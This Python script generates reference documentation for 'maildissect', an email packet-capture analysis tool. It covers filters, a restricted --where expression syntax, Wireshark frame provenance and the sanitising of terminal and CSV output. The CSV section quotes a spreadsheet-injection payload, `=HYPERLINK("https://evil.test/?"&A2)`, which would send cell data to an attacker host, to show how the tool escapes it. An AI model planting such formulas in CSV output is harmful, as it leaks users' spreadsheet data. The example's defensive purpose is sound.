#!/usr/bin/env python3
"""Regenerate the reference pages that come from the code.

    python docs/gen.py          # rewrite docs/data.md, limits.md, anomalies.md, cli.md
    python docs/gen.py --check  # exit 1 if any of them is out of date (the test suite runs this)
"""

from __future__ import annotations

import pathlib
import sys

HERE = pathlib.Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent))


def cli_markdown() -> str:
    import click

    from maildissect.cli import cli
    lines = ["# Command line", "",
             "Generated from `maildissect --help` and each command's help (`python docs/gen.py`).", "",
             "Exit status: 0 on success (anomalies in the input do not change it), 1 for an input that "
             "cannot be read (a file that is not a capture, a missing file) or an environment problem "
             "(no capture permission), 2 for a usage error. Errors are one line on stderr, prefixed "
             "`maildissect: error:`; warnings (a truncated capture...) are prefixed `maildissect: warning:` "
             "and silenced by `--quiet`.", ""]
    lines += filters_markdown()
    lines += output_markdown()
    ctx = click.Context(cli, info_name="maildissect", terminal_width=100, max_content_width=100)
    lines += ["## maildissect", "", "```", cli.get_help(ctx), "```", ""]
    for name in sorted(cli.commands):
        cmd = cli.commands[name]
        sub = click.Context(cmd, info_name=f"maildissect {name}", parent=None, terminal_width=100,
                            max_content_width=100)
        lines += [f"## maildissect {name}", "", "```", cmd.get_help(sub), "```", ""]
    return "\n".join(lines)


def filters_markdown() -> list[str]:
    """What every filter means on every command (maildissect/filters.py)."""
    from maildissect import filters
    lines = [
        "## Filters", "",
        "The listing commands (`flows`, `sessions`, `commands`, `messages`, `attachments`, `credentials`, "
        "`anomalies`, `http`, `mailboxes`) take every filter below; `extract` takes all but `--where`; "
        "`timeline` all but `--from`/`--to`/`--subject`; `journeys` `--since`, `--until` and `--where`. Filters "
        "combine with *and*; a repeated `--host`/`--client`/`--server` with *or*. A filter a command does not "
        "offer is refused (exit status 2), never ignored; so is a bad value, before the capture is read. The "
        "same filters are in the Python API: `Analysis.select(table, from_=..., since=..., host=..., "
        "where=...)` (`maildissect.filters.select`).", "",
        "### What a filter keeps, per table", "",
        "`--from TEXT` matches a message whose From, Sender or envelope sender (MAIL FROM) contains TEXT; "
        "`--to TEXT` one whose To, Cc, Bcc or envelope recipients (accepted or refused) contain it; "
        "`--subject TEXT` one whose decoded Subject contains it (all case-insensitive). An SMTP mail "
        "transaction that carried no message (refused, deferred, cut short) matches `--from`/`--to` by its "
        "MAIL FROM and RCPT TO. The other tables keep the rows joined to what matches by the keys the "
        "dissectors write on the records (never by time):", "",
        "| table | `--from`, `--to`, `--subject` keep | `--protocol`, `--session`, `--host`/`--client`/`--server` "
        "look at | `--since`/`--until` look at |",
        "|---|---|---|---|",
        "| messages | the matching messages | the message's session | `ts` (end of the transfer) |",
        "| attachments | the attachments of matching messages (`session_id`, `message_index`) | the session | "
        "`ts` of the message |",
        "| sessions | sessions that carried a matching message or transaction | the session itself | the span "
        "`start`..`end` |",
        "| flows | connections whose session did (so `flows --from` dissects) | the connection (`--protocol "
        "smtp` includes `smtps`) | the span `start`..`end` |",
        "| commands | the command that carried a matching message (`seq` = the message's `command_seq`); the "
        "commands of a matching SMTP `transaction`; the commands outside any message and transaction "
        "(greeting, EHLO, AUTH, SELECT, LOGOUT...) of a session that carried one | the session | `ts` |",
        "| http | the requests that carried matching webmail (`seq` = the message's `command_seq`) | the "
        "session | `ts` |",
        "| credentials | those of a session that carried a matching message | the session | `ts` |",
        "| anomalies | those of a session that carried one (capture-level anomalies never) | the session | "
        "`ts` (anomalies without a time never match a time filter) |",
        "| mailboxes | events that name a matching message's Message-ID; events without one, of a session "
        "that carried one | the session | `ts` |",
        "| events (`timeline`) | (not offered) | the session | `ts` |",
        "| hops, journeys (`journeys`) | (not offered) | (not offered) | the span `start`..`end` "
        "(`first_seen`..`last_seen` with `--summary`) |", "",
        "### Time and host filters", "",
        "`--since TIME` and `--until TIME` take ISO 8601 (`2024-05-01`, `2024-05-01T10:00:00`, "
        "`2024-05-01 12:00+02:00`, `2024-05-01T10:00:00.25Z`; a time without a zone is UTC) or epoch "
        "seconds (`1714557600`), in capture time, bounds included. A row with a point in time is kept when "
        "it lies within the bounds; flows, sessions, hops and journeys when the span they were active "
        "overlaps them.", "",
        "`--host IP`, `--client IP` and `--server IP` take an IPv4 or IPv6 address (any spelling: "
        "`2001:db8::1`, `[2001:db8::1]`, `2001:db8:0::1`) or a CIDR network (`10.0.0.0/8`, "
        "`2001:db8::/32`); an IPv4-mapped IPv6 address (`::ffff:10.0.0.1`) is its IPv4 address. `--host` "
        "matches either end of the row's connection, `--client` the side that opened it, `--server` the "
        "side that accepted it (columns `client_ip`/`server_ip` of flows and sessions).", "",
        "### --where", "",
        "`--where EXPR` keeps the rows for which EXPR, over the table's own columns (every column of the "
        "table, docs/data.md, not only those shown), is true; a missing value counts as false. It is "
        "applied after the other filters. Examples:", "",
        "```",
        "maildissect messages cap.pcap --where \"size > 1e6 and protocol == 'smtp'\"",
        "maildissect messages cap.pcap --where \"`from`.str.contains('carol') and not complete\"",
        "maildissect commands cap.pcap --where \"latency > 2 or reply_code in ['421', '450', '451']\"",
        "maildissect flows cap.pcap --where \"bytes_server > 10 * 1024 * 1024 and close == 'rst'\"",
        "maildissect http cap.pcap --where \"status >= 400 and ts >= '2024-05-01T10:00Z'\"",
        "maildissect messages cap.pcap --where \"to.str.contains('@example.org')\"   # a list column: its items",
        "```", "",
        "What it accepts, and nothing else (it is checked before anything runs; an expression is never given "
        "to Python's `eval`, nor to pandas' `eval`, which resolve names and attributes in Python):", "",
        f"- at most {filters.WHERE_LIMITS['max_length']} characters;",
        "- column names (a name that is a Python word, such as `from`, in backticks: `` `from` ``), numbers, "
        "quoted text, `True`, `False`, `None`, and lists of constants (at most 1000) after `in`;",
        f"- operators: {filters.WHERE_LIMITS['operators']} (no `**`, no arithmetic on text, so an "
        "expression cannot build a huge value);",
        f"- calls: {filters.WHERE_LIMITS['calls']}, with constant arguments only; on a list column "
        "(`to`, `rcpt_to`...) the `.str` tests see its items joined by `, `. `contains` and `match` take "
        "TEXT as a regular expression unless `regex=False`;",
        "- a timestamp column compared with text or a number reads it as `--since` does "
        "(`ts > '2024-05-01'`, `ts < 1714557600`).", "",
        "No attribute access, subscripts, other calls, comprehensions, lambdas, `@` variables or assignments. "
        "A wrong expression stops the command with one line naming the problem and listing the table's "
        "columns (exit status 2), e.g. `maildissect: error: --where: unknown column 'sise'; columns: "
        "protocol, session_id, ...`.", "",
        "## Where each row came from", "",
        "Every row can be found again in Wireshark. `file` is the capture the row came from, as given on "
        "the command line (`-` for standard input); frame numbers count the frames of that file alone, "
        "from 1, as Wireshark (and `tshark -r FILE`) numbers them when that file is opened by itself, "
        "whatever other files were merged with it:", "",
        "| table | columns |", "|---|---|",
        "| flows | `first_frame` (the connection's first frame) and `file` |",
        "| sessions | `first_frame` and `file` of their connection |",
        "| commands, messages, credentials, http, mailboxes, anomalies | `frame`, the frame that completed "
        "the row (a command: usually its reply; a message: the end of its transfer, for SMTP the final reply "
        "to the data; a row completed when a connection closed at the end of the capture or after idling: "
        "the connection's last frame), and `file` |",
        "| attachments | `frame` and `file` of their message |", "",
        "In Wireshark: open `file`, then *Go to Packet* (Ctrl-G) with the number, or the display filter "
        "`frame.number == N`; `tshark -r FILE -Y 'frame.number == N'` prints it. Several captures are "
        "merged in time order (a file's frames keep their order); that merged order numbers the connections "
        "(`flow_id`, as Wireshark's `tcp.stream` of the merged capture) and is the same with `--jobs N` as "
        "with one process. Capture-file damage (a truncated last record) names its file and the last frame "
        "read before it. `live` rows carry frame numbers of the capture and no file.", "",
    ]
    return lines


def output_markdown() -> list[str]:
    """How terminal tables are laid out and what reaches a terminal or a spreadsheet."""
    from maildissect.output import tables

    def names(cols) -> str:
        return ", ".join(f"`{c}`" for c in sorted(cols))
    lines = [
        "## Terminal output", "",
        "### Tables that fit", "",
        "On a terminal a table is as wide as the terminal (`COLUMNS` when it is set). When its columns "
        "do not fit, the least important are left out (the order below), and so are columns with nothing "
        "to show; the others share the width. Only free text is ever cut, with an ellipsis (`\u2026`) on "
        f"one line: {names(tables.FREE_TEXT)}. Every other value (identifiers, hashes, addresses, file "
        "names, Message-IDs, timestamps) is shown whole: addresses and lists wrap between words or "
        "items, and a single word wider than its column (at most "
        f"{tables.MAX_WHOLE_WIDTH} characters, so a sha256 fits) continues on the next line of its cell.", "",
        "`--wide`, or output that is not a terminal (a pipe, `-o FILE`), prints every column of the "
        "table's view with whole values, one line per row, as wide as they need (no trailing spaces). "
        "`--format jsonl/csv/parquet` write every column of the table.", "",
        "The messages table adds an `envelope` column when, for some message, the SMTP envelope differs "
        "from the To and Cc headers: the accepted recipients, then the refused ones marked `(refused)` "
        "(a Bcc recipient shows here, a refused one too).", "",
        "Columns from the most to the least important (a narrow terminal drops from the right):", "",
        "| table | columns |", "|---|---|",
    ]
    label = {"events": "events (timeline)", "hops": "hops (journeys)",
             "anomaly_counts": "anomaly counts (analyze)"}
    for table, cols in tables.PRIORITY.items():
        lines.append(f"| {label.get(table, table)} | {', '.join(cols)} |")
    lines += [
        "",
        "### Text from the capture", "",
        "Every string printed for a person (table cells, titles, the analyze panel, journeys' Received "
        "notes, `live` lines, warnings and errors that quote a file name or data) was chosen by whoever "
        "sent the mail, so it passes through one cleaner (`maildissect/output/terminal.py`) and reaches "
        "the terminal as text, never as instructions or rich markup (`[link=...]`, `[/x]` are shown as "
        "written). What the cleaner shows instead of a character a terminal would obey or not show:", "",
        "| in the data | shown as |", "|---|---|",
        "| C0 controls U+0000-U+001F, DEL | the Unicode control pictures: `\u2400`...`\u241f`, `\u2421` "
        "(ESC `\u241b`, TAB `\u2409`, LF `\u240a`, CR `\u240d`, BEL `\u2407`) |",
        "| C1 controls U+0080-U+009F (U+009B is CSI on many terminals) | `\u27e8U+009B\u27e9` |",
        "| bidi embeddings, overrides, isolates and marks (U+202A-U+202E, U+2066-U+2069, U+200E, U+200F, "
        "U+061C), other format characters (zero-width spaces and joiners, BOM, soft hyphen, tag "
        "characters), U+2028/U+2029, the fillers U+034F, U+115F, U+1160, U+3164, U+FFA0 | "
        "`\u27e8U+202E\u27e9` |",
        "| a lone surrogate (text that is not Unicode) | `\ufffd` |",
        "| the placeholder glyphs themselves (U+2400-U+2421, `\u27e8`) | `\u27e8U+241B\u27e9` |", "",
        "So the rendering is unambiguous: every `\u241b` on screen was an ESC byte and every `\u27e8` "
        "opens a placeholder. `follow --format ascii` prints tshark's text (printable ASCII, TAB, LF, CR; "
        "any other byte as `.`); on a terminal a CR that does not end a line is shown as `.` too, since "
        "it would let the bytes after it overwrite the line. JSON lines (`-f jsonl`, `live --format "
        "jsonl`) write the same characters as `\\u` escapes: the same JSON values, inert on a terminal. "
        "CSV printed to a terminal (`-f csv` without `-o`, standard output a terminal) passes the same "
        "cleaner; to a file or a pipe it keeps the text as it is. Bytes as they are never go to a terminal: "
        "`follow -f raw` and `-f parquet` without `-o` are refused there with a one-line error (a pipe or "
        "`-o FILE` gets them; `follow -f raw -o -` insists).", "",
        "### CSV", "",
        "Spreadsheets run a cell that starts with `=`, `+`, `-` or `@` (and some a TAB or CR) as a "
        "formula. In every CSV maildissect writes (`-f csv` of the listing commands, `timeline` and "
        "`journeys`, `export -f csv`, extract's `index.csv`) such a text cell gets a leading `'`, "
        "OWASP's advice on CSV injection: `=HYPERLINK(\"https://evil.test/?\"&A2)` is written "
        "`'=HYPERLINK(...)`, a POP3 reply `-ERR` is written `'-ERR`. Numbers are not text and are never "
        "changed (a negative latency stays a number); list cells are JSON text (`[\"=a@b\"]`) and start "
        "with `[`. `--csv-raw` writes text cells as they are, for programs that read the CSV. Rows end "
        "with CRLF (RFC 4180), so a CR or LF inside a cell is always quoted: a bare CR in an unquoted "
        "cell would start a new row in a spreadsheet, with the rest of the cell "
        "(`x\\r=HYPERLINK(...)`) as a formula in its first cell.", "",
    ]
    return lines


def pages() -> dict[str, str]:
    from maildissect import anomalies, frames
    from maildissect.config import limits_markdown
    return {
        "data.md": frames.markdown(),
        "limits.md": limits_markdown(),
        "anomalies.md": anomalies.markdown(),
        "cli.md": cli_markdown(),
    }


def main() -> int:
    check = "--check" in sys.argv
    stale = []
    for name, text in pages().items():
        path = HERE / name
        if check:
            if not path.exists() or path.read_text() != text:
                stale.append(name)
        else:
            path.write_text(text)
    if stale:
        print("out of date (run python docs/gen.py): " + ", ".join(stale))
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
